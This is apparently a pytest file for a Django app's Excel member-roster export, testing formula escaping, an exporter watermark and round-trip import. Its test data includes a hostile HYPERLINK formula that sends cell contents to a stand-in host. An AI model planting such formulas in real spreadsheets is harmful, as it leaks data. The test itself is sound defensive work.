"""Exports cannot carry a live formula, say who took them, and still import back unchanged."""

import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from dangjian.io.services import members_export, members_for_export, members_import
from dangjian.io.writers import FORMULA_TRIGGERS, looks_like_formula
from dangjian.members import services as member_services
from dangjian.members.models import Member

pytestmark = pytest.mark.django_db

HOSTILE = {
    "address": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "job": "+86 村委委员",
}


@given(st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=20))
def test_every_trigger_is_recognised(trigger, rest):
    assert looks_like_formula(trigger + rest)


@given(st.text(max_size=20).filter(lambda text: not text.startswith(FORMULA_TRIGGERS)))
def test_other_text_is_left_alone(text):
    assert not looks_like_formula(text)


def _export(world, tmp_path, actor, *, unmasked):
    zhang = member_services.member_update(actor=None, member=world.members["zhang"], **HOSTILE)
    target = tmp_path / "roster.xlsx"
    members_export(actor=actor, queryset=members_for_export(actor), target=str(target), unmasked=unmasked)
    return zhang, target


def test_hostile_cells_are_text_with_quote_prefix(world, tmp_path):
    zhang, target = _export(world, tmp_path, world.users["county_admin"], unmasked=False)
    sheet = openpyxl.load_workbook(target).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    prefixed = {cell.value for cell in cells if cell.quotePrefix}
    assert prefixed == set(HOSTILE.values())
    assert not any(cell.quotePrefix for cell in cells if cell.value == zhang.name)


def test_watermark_names_exporter_time_and_masking(world, tmp_path):
    _, target = _export(world, tmp_path, world.users["county_admin"], unmasked=False)
    watermark, headers, *_ = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python()
    assert "county_admin" in watermark[0] and "身份证号已脱敏" in watermark[0]
    assert "导出时间" in watermark[0]
    assert headers[0] == "姓名"
    _, unmasked = _export(world, tmp_path, None, unmasked=True)
    watermark = CalamineWorkbook.from_path(str(unmasked)).get_sheet_by_index(0).to_python()[0]
    assert "含完整身份证号" in watermark[0]


def test_export_imports_back_to_the_same_values(world, tmp_path):
    """Watermark row skipped by header detection, hostile text read back without any prefix."""
    zhang, target = _export(world, tmp_path, None, unmasked=True)
    before = {m.pk: (m.address, m.job, m.name) for m in Member.objects.all()}

    report = members_import(actor=None, stream=io.BytesIO(target.read_bytes()), filename="roster.xlsx")

    assert not report.errors, report.errors
    assert report.total == Member.objects.count()
    assert report.written == 0  # every row equals what is stored: nothing to change
    assert {m.pk: (m.address, m.job, m.name) for m in Member.objects.all()} == before
    assert Member.objects.get(pk=zhang.pk).address == HOSTILE["address"]
